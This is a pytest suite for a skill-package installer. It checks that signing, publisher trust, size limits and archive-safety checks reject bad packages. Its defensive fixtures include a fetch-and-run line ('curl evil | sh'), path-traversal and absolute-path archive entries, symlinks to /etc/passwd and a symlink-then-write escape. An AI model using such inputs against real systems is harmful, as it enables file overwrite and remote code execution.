"""Installing skills: what a good package yields, and every way a bad one is refused."""

from __future__ import annotations

import json
import os
import stat
import tarfile
import warnings
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from skillkit import (
    make_service,
    make_tarinfo,
    public_b64,
    signed_skill,
    skill_db,
    tar_folder,
    write_skill,
    zip_folder,
)

from palyra.skills import PackageLimits, SkillConflict, SkillRejected, SkillService
from palyra.storage.db import Database


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[Database]:
    async with skill_db("sqlite", tmp_path) as database:
        yield database


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
async def service(db: Database, tmp_path: Path, key: Ed25519PrivateKey) -> SkillService:
    svc, _, _ = make_service(db, tmp_path / "state" / "skills")
    await svc.trust_add("acme", public_b64(key))
    return svc


async def refused(service: SkillService, path: Path) -> list[str]:
    with pytest.raises(SkillRejected) as info:
        await service.install(path)
    return info.value.reasons


def staging_is_empty(service: SkillService) -> bool:
    staging = service.root / ".staging"
    return not staging.exists() or not any(staging.iterdir())


async def test_sign_trust_install_list(service: SkillService, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    record = await service.install(pkg)
    assert (record.skill_id, record.version, record.publisher, record.status) == (
        "lookup",
        "1.0.0",
        "acme",
        "active",
    )
    assert record.current and set(record.files) == {"skill.toml", "main.py", "lib/util.py"}
    assert record.capabilities["network"] == ["api.example.com"]
    installed = service.root / "lookup" / "1.0.0"
    assert Path(record.path) == installed
    assert (installed / "lib" / "util.py").read_bytes() == b"X = 1\n"
    assert (installed / "signature.json").is_file()
    assert stat.S_IMODE((installed / "main.py").stat().st_mode) == 0o444
    assert [r.ref for r in await service.list()] == ["lookup@1.0.0"]
    assert staging_is_empty(service)
    events = await service.audit_log.list(action_prefix="skill.")
    assert [e["action"] for e in events] == ["skill.installed", "skill.trust.added"]


async def test_new_version_becomes_current_and_same_version_needs_force(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    await service.install(signed_skill(tmp_path / "v1", key))
    await service.install(signed_skill(tmp_path / "v2", key, version="1.1.0"))
    listed = {r.version: r.current for r in await service.list()}
    assert listed == {"1.0.0": False, "1.1.0": True}
    assert (await service.get("lookup")).version == "1.1.0"

    with pytest.raises(SkillConflict):
        await service.install(tmp_path / "v1")
    # Re-installing an older version explicitly is a rollback: it becomes current.
    again = await service.install(tmp_path / "v1", force=True)
    assert again.current and (await service.get("lookup")).version == "1.0.0"
    assert staging_is_empty(service)


async def test_installs_from_zip_and_tar_gz(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    await service.install(zip_folder(pkg, tmp_path / "lookup.zip"))
    pkg2 = signed_skill(tmp_path / "pkg2", key, version="2.0.0")
    record = await service.install(tar_folder(pkg2, tmp_path / "lookup.tar.gz"))
    assert record.version == "2.0.0" and len(record.files) == 3


async def test_archive_layouts_people_make(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    """`tar -C pkg -czf x.tgz .` writes "./" entries; `zip -r x.zip lookup/` wraps one folder."""
    pkg = signed_skill(tmp_path / "lookup", key)
    dotted = tmp_path / "dotted.tgz"
    with tarfile.open(dotted, "w:gz") as tf:
        tf.add(pkg, ".")
    assert (await service.install(dotted)).version == "1.0.0"

    pkg2 = signed_skill(tmp_path / "wrapped" / "lookup", key, version="1.0.1")
    wrapped = tmp_path / "wrapped.zip"
    with zipfile.ZipFile(wrapped, "w") as zf:
        for path in sorted(pkg2.parent.rglob("*")):
            zf.write(path, path.relative_to(pkg2.parent).as_posix())
    record = await service.install(wrapped)
    assert record.version == "1.0.1" and "lookup/skill.toml" not in record.files
    assert (service.root / "lookup" / "1.0.1" / "skill.toml").is_file()
    assert staging_is_empty(service)


async def test_refuses_unsigned(service: SkillService, tmp_path: Path) -> None:
    reasons = await refused(service, write_skill(tmp_path / "pkg"))
    assert reasons == ["unsigned: no signature.json"]
    assert await service.list() == []
    assert not (service.root / "lookup").exists() and staging_is_empty(service)


async def test_refuses_bad_signature(service: SkillService, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    sig = json.loads((pkg / "signature.json").read_text())
    other = Ed25519PrivateKey.generate().sign(b"something else")
    sig["signature"] = __import__("base64").b64encode(other).decode()
    (pkg / "signature.json").write_text(json.dumps(sig))
    reasons = await refused(service, pkg)
    assert len(reasons) == 1 and reasons[0].startswith("bad_signature: the signature does not verify")


async def test_refuses_untrusted_publisher(service: SkillService, tmp_path: Path) -> None:
    stranger = Ed25519PrivateKey.generate()
    reasons = await refused(service, signed_skill(tmp_path / "pkg", stranger))
    assert len(reasons) == 1 and reasons[0].startswith("untrusted: publisher 'acme' key ")
    # The right publisher name with someone else's key is no better.
    other = signed_skill(tmp_path / "other", Ed25519PrivateKey.generate(), publisher="globex")
    assert (await refused(service, other))[0].startswith("untrusted: publisher 'globex'")


async def test_refuses_tampered_file(service: SkillService, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    (pkg / "main.py").write_text("import os; os.system('curl evil | sh')\n")
    assert await refused(service, pkg) == ["modified: main.py does not match its signed sha256"]

    pkg2 = signed_skill(tmp_path / "pkg2", key)
    (pkg2 / "extra.py").write_text("smuggled\n")
    assert await refused(service, pkg2) == ["unexpected_file: extra.py is present but not signed"]


async def test_refuses_tampered_manifest(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    manifest = (pkg / "skill.toml").read_text().replace('["api.example.com"]', '["evil.example.net"]')
    (pkg / "skill.toml").write_text(manifest)
    assert await refused(service, pkg) == ["modified: skill.toml does not match its signed sha256"]


@pytest.mark.parametrize(
    ("hosts", "bad"),
    [(["*"], "*"), (["*.*"], "*.*"), (["api.example.com", "*.com"], "*.com"), (["*.ex*.com"], "*.ex*.com")],
)
async def test_refuses_wildcard_network(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path, hosts: list[str], bad: str
) -> None:
    reasons = await refused(service, signed_skill(tmp_path / "pkg", key, network=hosts))
    assert reasons == [f"policy: capabilities.network {bad!r}: wildcard network access is not allowed"]


async def test_subdomain_pattern_is_allowed(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    record = await service.install(signed_skill(tmp_path / "pkg", key, network=["*.example.com"]))
    assert record.capabilities["network"] == ["*.example.com"]


async def test_refuses_undeclared_limits_and_forbidden_env(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    pkg = write_skill(tmp_path / "pkg")
    text = (pkg / "skill.toml").read_text().replace("max_runtime_s = 10\n", "")
    (pkg / "skill.toml").write_text(text.replace('"LOOKUP_API_KEY"', '"PALYRA_ADMIN_TOKEN"'))
    from palyra.skills import sign_package

    sign_package(pkg, key, "acme")
    reasons = await refused(service, pkg)
    assert "policy: capabilities.max_runtime_s must be declared" in reasons
    assert any("PALYRA_ADMIN_TOKEN" in r and r.startswith("policy:") for r in reasons)


async def test_refuses_unknown_capability(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    pkg = write_skill(tmp_path / "pkg")
    (pkg / "skill.toml").write_text((pkg / "skill.toml").read_text() + "devices = ['camera']\n")
    from palyra.skills import ManifestError, sign_package

    with pytest.raises(ManifestError, match=r"capabilities\.devices"):
        sign_package(pkg, key, "acme")


async def test_refuses_oversized_file(db: Database, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    service, _, _ = make_service(db, tmp_path / "skills")  # default limits: 8 MiB per file
    await service.trust_add("acme", public_b64(key))
    pkg = write_skill(tmp_path / "pkg", files={"big.bin": b"\0" * (8 * 1024 * 1024 + 1)})
    (pkg / "signature.json").write_text("{}")
    reasons = await refused(service, pkg)
    assert reasons == ["too_large: big.bin is larger than 8388608 bytes"]
    assert staging_is_empty(service)


async def test_refuses_total_over_limit(db: Database, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    limits = PackageLimits(max_file_bytes=1000, max_total_bytes=2500)
    service, _, _ = make_service(db, tmp_path / "skills", limits=limits)
    files = {f"f{i}.bin": b"x" * 900 for i in range(3)}
    reasons = await refused(service, signed_skill(tmp_path / "pkg", key, files=files))
    assert reasons == ["too_large: files total more than 2500 bytes"]


async def test_refuses_too_many_files(db: Database, key: Ed25519PrivateKey, tmp_path: Path) -> None:
    service, _, _ = make_service(db, tmp_path / "skills")  # default limit: 1,000 files
    await service.trust_add("acme", public_b64(key))
    files = {f"f/{i:04}.txt": b"." for i in range(1000)}  # + skill.toml + signature.json
    pkg = signed_skill(tmp_path / "pkg", key, files=files)
    assert await refused(service, pkg) == ["too_large: more than 1000 files"]
    archive = zip_folder(pkg, tmp_path / "many.zip")
    assert await refused(service, archive) == ["too_large: more than 1000 files"]


async def test_refuses_symlink_in_folder(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    os.symlink("/etc/passwd", pkg / "passwd")
    assert await refused(service, pkg) == ["unsafe_path: passwd is a symlink"]


def _zip_entry(name: str) -> zipfile.ZipInfo:
    return zipfile.ZipInfo(name)


def _zip_symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        (_zip_entry("../evil"), "unsafe_path: '../evil' has a '..' component"),
        (_zip_entry("lib/../../evil"), "unsafe_path: 'lib/../../evil' has a '..' component"),
        (_zip_entry("/etc/cron.d/evil"), "unsafe_path: '/etc/cron.d/evil' is an absolute path"),
        (_zip_entry("C:/evil"), "unsafe_path: 'C:/evil' is an absolute path"),
        (_zip_entry("lib\\..\\..\\evil"), "unsafe_path: 'lib\\\\..\\\\..\\\\evil' contains a backslash"),
        (_zip_entry("main.py"), "unsafe_path: duplicate entry main.py"),
        (_zip_entry("./MAIN.py"), "unsafe_path: duplicate entry MAIN.py"),
        (_zip_entry("main.py/inner"), "unsafe_path: main.py/inner is inside main.py, which is a file"),
        (_zip_symlink("link"), "unsafe_path: 'link' is a symlink"),
    ],
)
async def test_refuses_unsafe_zip_entries(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path, entry: zipfile.ZipInfo, reason: str
) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, which is the point
        archive = zip_folder(pkg, tmp_path / "bad.zip", extra=[(entry, b"pwned")])
    reasons = await refused(service, archive)
    assert len(reasons) == 1 and reasons[0].startswith(reason), reasons
    assert not (tmp_path / "evil").exists() and not (service.root.parent / "evil").exists()
    assert await service.list() == [] and staging_is_empty(service)


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        (make_tarinfo("../evil", b"x"), "unsafe_path: '../evil' has a '..' component"),
        (make_tarinfo("/tmp/evil", b"x"), "unsafe_path: '/tmp/evil' is an absolute path"),
        (
            make_tarinfo("link", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
            "unsafe_path: 'link' is a symlink",
        ),
        (
            make_tarinfo("hard", type=tarfile.LNKTYPE, linkname="main.py"),
            "unsafe_path: 'hard' is a hard link",
        ),
        (make_tarinfo("dev", type=tarfile.CHRTYPE), "unsafe_path: 'dev' is a device or FIFO"),
        (make_tarinfo("fifo", type=tarfile.FIFOTYPE), "unsafe_path: 'fifo' is a device or FIFO"),
        (make_tarinfo("main.py", b"evil"), "unsafe_path: duplicate entry main.py"),
    ],
)
async def test_refuses_unsafe_tar_entries(
    service: SkillService,
    key: Ed25519PrivateKey,
    tmp_path: Path,
    entry: tuple[tarfile.TarInfo, bytes],
    reason: str,
) -> None:
    pkg = signed_skill(tmp_path / "pkg", key)
    archive = tar_folder(pkg, tmp_path / "bad.tar.gz", extra=[entry])
    reasons = await refused(service, archive)
    assert len(reasons) == 1 and reasons[0].startswith(reason), reasons
    assert await service.list() == [] and staging_is_empty(service)


async def test_symlinked_tar_member_cannot_redirect_a_later_write(
    service: SkillService, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    """The classic two-step escape: a symlink to a directory outside, then a file written through it."""
    pkg = signed_skill(tmp_path / "pkg", key)
    outside = tmp_path / "outside"
    outside.mkdir()
    archive = tar_folder(
        pkg,
        tmp_path / "escape.tar.gz",
        extra=[
            make_tarinfo("lib/escape", type=tarfile.SYMTYPE, linkname=str(outside)),
            make_tarinfo("lib/escape/pwned", b"x"),
        ],
    )
    await refused(service, archive)
    assert list(outside.iterdir()) == []


async def test_refuses_not_an_archive(service: SkillService, tmp_path: Path) -> None:
    path = tmp_path / "skill.rar"
    path.write_bytes(b"Rar!\x1a\x07\x00 nope")
    assert (await refused(service, path))[0].startswith("corrupt_archive:")
    with pytest.raises(SkillRejected, match="does not exist"):
        await service.install(tmp_path / "missing")
